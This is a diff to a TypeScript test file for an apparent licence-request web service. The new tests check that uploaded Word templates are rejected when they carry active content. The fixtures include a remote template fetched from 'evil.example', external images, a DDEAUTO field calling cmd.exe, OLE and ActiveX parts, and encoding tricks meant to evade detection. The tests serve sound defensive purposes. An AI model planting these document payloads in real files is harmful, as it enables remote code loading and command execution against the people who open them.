@@ -23,6 +23,8 @@ beforeAll(async () => {
     .updateTable('access_token')
     .set({ expires_at: new Date('2100-01-01') })
     .execute()
+  const [created_at, last_used_at] = [new Date('2100-01-01'), new Date('2100-01-01')]
+  await api.db.updateTable('session').set({ created_at, last_used_at }).execute()
 })
 
 describe('a price', () => {
@@ -220,6 +222,50 @@ describe('the template of the licence request', () => {
     const { status, body } = await set(await templateWith(text))
     expect([status, Object.keys(body.errors!)]).toEqual([422, ['contenu']])
     for (const [at, sentence] of expected.entries()) expect(body.errors!.contenu![at]).toContain(sentence)
+  })
+
+  const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
+  const relation = (type: string, target: string, more = '') =>
+    `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${REL}/${type}" Target="${target}" ${more}/></Relationships>`
+  const OUTSIDE = 'TargetMode="External"'
+  const settings = 'word/_rels/settings.xml.rels'
+  const field = (text: string) => `<w:hdr xmlns:w="x"><w:r><w:instrText>${text}</w:instrText></w:r></w:hdr>`
+
+  it.each<[string, string, string | Buffer]>([
+    ['a remote template', settings, relation('attachedTemplate', 'https://evil.example/payload.dotm', OUTSIDE)],
+    ['a template within the file', settings, relation('attachedTemplate', 'media/a.png')],
+    ['a remote picture', settings, relation('image', 'https://evil.example/a.png', OUTSIDE)],
+    ['a remote picture in other quotes', settings, relation('image', 'https://evil.example', "TargetMode='External'")],
+    ['a remote picture in encoded letters', settings, relation('image', 'https://x', 'TargetMode="&#69;xternal"')],
+    ['a link to a file of the network', settings, relation('hyperlink', 'file://evil/share', OUTSIDE)],
+    ['relations in another encoding', settings, Buffer.from(relation('image', 'https://x', OUTSIDE), 'utf16le')],
+    ['relations with entities', settings, `<!DOCTYPE x [<!ENTITY e "External">]>${relation('image', 'x')}`],
+    ['an OLE object', 'word/embeddings/oleObject1.bin', 'x'],
+    ['an embedded workbook', 'word/embeddings/a.xlsx', 'x'],
+    ['a control', 'word/activeX/activeX1.xml', '<x/>'],
+    ['a part nobody knows', 'word/other.bin', 'x'],
+    ['a program in a field', 'word/header9.xml', field('DDEAUTO c:\\\\cmd.exe')],
+    ['a program in a field of two runs', 'word/header9.xml', field('DD</w:instrText><w:instrText>E cmd')],
+    [
+      'a remote picture in a field',
+      'word/header9.xml',
+      '<w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://x&quot; "/>',
+    ],
+  ])('with %s is refused', async (_case, part, content) => {
+    const file = new PizZip(await readTemplate(api.db))
+    file.file(part, content)
+    const { status, body } = await set(file.generate({ type: 'nodebuffer' }))
+    expect([status, body.errors]).toEqual([422, { contenu: [messages.templateActive] }])
+  })
+
+  it('may have links, pictures, headers and fields of its own', async () => {
+    const file = new PizZip(await readTemplate(api.db))
+    file.file(settings, relation('hyperlink', 'https://www.abft.example/', OUTSIDE))
+    file.file('word/header9.xml', field(' HYPERLINK &quot;https://www.abft.example&quot; '))
+    file.file('word/media/image 1.jpeg', 'x')
+    file.file('customXml/itemProps1.xml', '<x/>')
+    expect((await set(file.generate({ type: 'nodebuffer' }))).status).toBe(200)
+    expect((await api.send('staffResetTemplate', {}, staff)).status).toBe(200)
   })
 
   it('is no bomb, no other file and has no macros', async () => {
